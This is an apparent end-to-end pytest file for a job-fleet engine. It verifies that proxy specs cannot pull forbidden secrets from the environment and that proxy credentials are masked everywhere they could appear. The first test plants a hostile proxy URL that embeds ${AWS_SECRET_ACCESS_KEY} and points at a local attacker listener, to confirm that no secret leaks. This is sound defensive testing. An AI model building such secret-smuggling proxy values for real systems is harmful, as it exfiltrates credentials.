"""Proxy secrets with real processes: a supervisor, its workers, the simulated boards.

A node spec may only name variables JOBFLEET_SECRET_ENV allows, and the worker checks again (the
database is not trusted); a worker's environment holds only what it needs; a secret in the
proxy's user slot is masked everywhere it could be shown.
"""

from __future__ import annotations

import json
import socket
import subprocess
import sys
import threading
from pathlib import Path

import psycopg
import pytest

from engine.fleet import nodes
from engine.fleet.events import fetch_logs
from engine.fleet.spec import parse_spec
from tests.e2e.conftest import node_spec
from tests.e2e.lifecycle_helpers import SupervisorProc, wait_for

pytestmark = pytest.mark.e2e

AWS_SECRET = "aws-Secret-Value-not-for-workers-3141"


class Attacker:
    """A TCP listener standing in for a hostile proxy: it records every connection and byte."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.received = b""
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            conn.settimeout(2)
            try:
                while data := conn.recv(65536):
                    self.received += data
            except OSError:
                pass
            finally:
                conn.close()

    def close(self) -> None:
        self.sock.close()


def cli(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "engine", *args],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )


def test_a_row_written_past_deploy_cannot_read_the_environment(
    sim, fast_env, fast_db, tmp_path: Path
):
    attacker = Attacker()
    forbidden = ["AWS_SECRET_ACCESS_KEY", "JOBFLEET_DATABASE_URL"]
    ids = []
    for name in forbidden:
        node_id = nodes.deploy(
            fast_db, parse_spec(node_spec(sim, f"evil-{name.lower()}")), start=False
        )
        # Straight into the database, as anyone who can write a node row could.
        evil = [f"http://x:${{{name}}}@127.0.0.1:{attacker.port}"]
        with fast_db.connection() as conn:
            conn.execute(
                "UPDATE nodes SET spec = jsonb_set(spec, '{proxies}', %s::jsonb) WHERE id = %s",
                (json.dumps(evil), node_id),
            )
        nodes.request_start(fast_db, node_id)
        ids.append(node_id)
    sup = SupervisorProc({**fast_env, "AWS_SECRET_ACCESS_KEY": AWS_SECRET}, tmp_path).start()
    try:
        for node_id, name in zip(ids, forbidden, strict=True):
            wait_for(
                lambda n=node_id: nodes.get_node(fast_db, n).status == "fatal",
                what=f"node {node_id} fatal",
            )
            # The worker's reason is its config_error event (the supervisor's exit record
            # replaces last_error with the exit code).
            events = fetch_logs(fast_db, node_id=node_id, limit=200)
            reasons = [e["message"] for e in events if e["event"] == "config_error"]
            assert len(reasons) == 1, events
            assert f"${{{name}}}" in reasons[0] and "JOBFLEET_SECRET_ENV" in reasons[0]
    finally:
        sup.stop()
        attacker.close()
    assert attacker.connections == 0 and attacker.received == b""
    with fast_db.connection() as conn:
        dump = json.dumps(conn.execute("SELECT * FROM node_logs").fetchall(), default=str)
    assert AWS_SECRET not in dump and fast_env["JOBFLEET_DATABASE_URL"] not in dump


def test_a_user_slot_secret_never_shows_and_workers_get_a_small_environment(
    fast_env, fast_db, jf_home: Path, tmp_path: Path
):
    from engine.sim import SimBoards

    key = "uSeR-sLoT-ApiKey-2718"
    with SimBoards(auth=(key, "")) as sim:
        spec = node_spec(sim, "user-slot", proxies=[f"http://${{PROXY_KEY}}@{sim.address}"])
        node_id = nodes.deploy(fast_db, parse_spec(spec))
        env = {**fast_env, "PROXY_KEY": key, "AWS_SECRET_ACCESS_KEY": AWS_SECRET}
        sup = SupervisorProc(env, tmp_path).start()
        try:

            def running():
                row = nodes.get_node(fast_db, node_id)
                return row.status == "running" and row.pid and row

            pid = wait_for(running, what="running").pid
            environ = Path(f"/proc/{pid}/environ").read_bytes().split(b"\0")
            names = {item.partition(b"=")[0] for item in environ}
            assert b"PROXY_KEY" in names  # the one secret its spec names
            assert b"AWS_SECRET_ACCESS_KEY" not in names
            assert AWS_SECRET.encode() not in b"\0".join(environ)

            def scraped():
                events = fetch_logs(fast_db, node_id=node_id, limit=500)
                return any(e["event"] == "scrape_done" for e in events)

            wait_for(scraped, what="a scrape through the proxy")
            out = cli(env, "nodes", "--json").stdout + cli(env, "logs", "--all", "-n", "500").stdout
        finally:
            sup.stop()
    with fast_db.connection() as conn:
        conn.row_factory = psycopg.rows.tuple_row
        shown = {r[0] for r in conn.execute("SELECT proxy FROM scrape_runs").fetchall()}
        dump = json.dumps(conn.execute("SELECT * FROM node_logs").fetchall(), default=str)
        dump += json.dumps(conn.execute("SELECT * FROM nodes").fetchall(), default=str)
        dump += json.dumps(conn.execute("SELECT * FROM scrape_runs").fetchall(), default=str)
    assert shown == {f"http://***@{sim.address}"}
    assert f"proxy http://***@{sim.address} exits at" in dump  # the proxy_ok event
    assert key not in dump
    assert key not in out and "scrape_done" in out
    worker_log = jf_home / "logs" / f"node-{node_id}.log"
    assert worker_log.is_file()
    for path in [*jf_home.rglob("*"), *tmp_path.rglob("*.log")]:
        if path.is_file():
            assert key.encode() not in path.read_bytes(), path
